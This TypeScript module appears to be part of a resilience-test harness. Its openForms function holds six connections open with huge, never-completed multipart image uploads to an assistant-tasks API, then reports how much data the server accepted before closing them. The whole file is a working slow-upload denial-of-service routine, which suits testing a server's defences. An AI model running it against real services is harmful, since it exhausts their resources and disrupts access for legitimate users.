import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { ATTACKER_ADDRESS, type Attack } from '../target.ts';

const CHUNK = randomBytes(1024 * 1024);
const FORMS = 6;
const IMAGES = 20;
const IMAGE_MB = 9;

/** Six forms with twenty images of 9 MB each, which are never completed. */
export const openForms: Attack = async ({ baseUrl, headers, assistantId, seconds }) => {
  const { hostname, port, host } = new URL(baseUrl);
  const head = `POST /api/assistants/${assistantId}/tasks HTTP/1.1\r\nHost: ${host}\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 209000000\r\n\r\n`;
  let accepted = 0;
  const until = performance.now() + seconds * 1_000;
  const form = async () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER_ADDRESS });
    socket.on('error', () => undefined);
    socket.resume();
    const write = (bytes: Buffer | string) =>
      new Promise<void>((resolve) => {
        const done = () => resolve();
        socket.once('close', done);
        socket.write(bytes, () => {
          socket.off('close', done);
          resolve();
        });
      });
    await write(head);
    for (let image = 0; image < IMAGES && performance.now() < until; image++) {
      await write(
        `${image > 0 ? '\r\n' : ''}--x\r\nContent-Disposition: form-data; name="images"; filename="a.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
      );
      for (let mb = 0; mb < IMAGE_MB && !socket.destroyed && performance.now() < until; mb++) {
        await write(CHUNK);
        if (!socket.destroyed) accepted += 1;
      }
    }
    while (performance.now() < until && !socket.destroyed) await sleep(100);
    const closed = socket.destroyed;
    socket.destroy();
    return closed;
  };
  const closed = (await Promise.all(Array.from({ length: FORMS }, form))).filter(Boolean).length;
  return `${FORMS} forms of ${IMAGES} images that never end: ${accepted} MB taken, ${closed} closed by the server`;
};
